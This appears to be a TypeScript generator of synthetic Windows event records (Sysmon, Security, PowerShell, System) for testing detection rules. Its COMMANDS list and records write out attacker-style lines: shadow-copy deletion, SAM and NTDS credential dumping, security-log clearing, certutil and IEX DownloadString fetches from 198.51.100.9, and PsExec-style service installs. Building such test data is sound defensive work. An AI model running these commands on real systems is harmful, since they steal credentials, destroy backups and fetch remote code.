// Records a public rule set speaks about: administrators do these things too, which is why such rules have innocent causes.
import { digits, letters, type Numbers } from './numbers.ts'
import { processCreation, type RecordBody, type RecordMaker } from './ordinary.ts'

const CMD = 'C:\\Windows\\System32\\cmd.exe'

const COMMANDS: readonly [readonly [string, string], ...(readonly [string, string])[]] = [
  ['whoami.exe', 'whoami /all'],
  ['vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
  ['ntdsutil.exe', `ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\${letters(6)}" q q`],
  ['reg.exe', `reg save HKLM\\SAM C:\\Windows\\Temp\\${letters(5)}.hiv`],
  ['netsh.exe', `netsh interface portproxy add v4tov4 listenport=9${digits(3)} connectaddress=10.20.1.9 connectport=3389`],
  ['wevtutil.exe', 'wevtutil cl Security'],
  ['certutil.exe', `certutil -urlcache -split -f http://198.51.100.9/${letters(6)}.txt C:\\Windows\\Temp\\${letters(6)}.exe`],
  ['net.exe', 'net group "Domain Admins" /domain'],
  ['nltest.exe', 'nltest /domain_trusts'],
  ['wmic.exe', `wmic /node:10.20.0.8 process call create "cmd.exe /c ipconfig > C:\\Windows\\Temp\\${letters(5)}.txt"`],
  ['schtasks.exe', `schtasks /create /tn ${letters(8)} /tr C:\\Users\\Public\\${letters(6)}.exe /sc minute /ru SYSTEM`],
]

export const suspiciousProcess: RecordMaker = numbers => {
  const [name, line] = numbers.pick(COMMANDS)
  const program = {
    image: `C:\\Windows\\System32\\${name === 'wmic.exe' ? 'wbem\\' : ''}${name}`,
    name,
    description: name.replace('.exe', ''),
    product: 'Microsoft® Windows® Operating System',
    company: 'Microsoft Corporation',
  }
  return processCreation(
    numbers,
    program,
    line,
    CMD,
    `cmd.exe /Q /c ${line} 1> \\\\127.0.0.1\\ADMIN$\\__17${digits(8)}.${digits(7)} 2>&1`,
  )
}

const cleared = (): RecordBody => ({
  provider: 'Microsoft-Windows-Eventlog',
  guid: 'fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148',
  channel: 'Security',
  eventId: 1102,
  task: 104,
  userData: {
    element: 'LogFileCleared',
    fields: [
      ['SubjectUserSid', { sid: 'S-1-5-21-1004336348-1177238915-682003330-500' }],
      ['SubjectUserName', 'Administrator'],
      ['SubjectDomainName', 'EXAMPLE'],
      ['SubjectLogonId', { hex: 0x5a3c1 }],
    ],
  },
})

const remoteScript = (): RecordBody => ({
  provider: 'Microsoft-Windows-PowerShell',
  guid: 'a0c1853b-5c40-4b15-8766-3cf1c58f985a',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  eventId: 4104,
  level: 3,
  task: 2,
  data: [
    ['MessageNumber', { int32: 1 }],
    ['MessageTotal', { int32: 1 }],
    ['ScriptBlockText', `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/${letters(6)}')`],
    ['ScriptBlockId', '7f2c4a55-0000-4000-8000-c0ffee000000'],
    ['Path', ''],
  ],
})

const installedService = (numbers: Numbers): RecordBody => ({
  provider: 'Service Control Manager',
  guid: '555908d1-a6d7-4695-8e1e-26931d2012f4',
  channel: 'System',
  eventId: 7045,
  keywords: 0x8080000000000000n,
  data: [
    ['ServiceName', `${letters(8)}`],
    [
      'ImagePath',
      numbers.chance(0.5) ? `%COMSPEC% /Q /c echo ${letters(12)} ^> \\\\127.0.0.1\\C$\\__output` : `%SystemRoot%\\PSEXESVC.exe`,
    ],
    ['ServiceType', 'user mode service'],
    ['StartType', 'demand start'],
    ['AccountName', 'LocalSystem'],
  ],
})

export const SUSPICIOUS = {
  sysmon: suspiciousProcess,
  security: cleared,
  powershell: remoteScript,
  system: installedService,
} as const
